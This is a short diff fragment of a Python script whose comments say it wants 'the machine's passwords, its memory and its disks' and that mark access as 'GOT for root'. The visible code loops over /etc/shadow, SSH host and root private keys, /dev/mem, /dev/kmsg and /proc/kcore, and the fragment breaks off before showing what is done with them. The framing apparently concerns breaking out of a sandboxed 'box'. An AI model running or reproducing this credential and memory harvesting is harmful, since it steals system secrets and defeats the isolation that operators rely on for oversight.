@@ -1,6 +1,6 @@
 # wants: the machine's passwords, its memory and its disks
 # held by: the file system of the box
-# unboxed: GOT
+# unboxed: GOT for root
 import glob
 
 for path in ("/etc/shadow", "/etc/ssh/ssh_host_rsa_key", "/root/.ssh/id_rsa", "/dev/mem", "/dev/kmsg", "/proc/kcore",
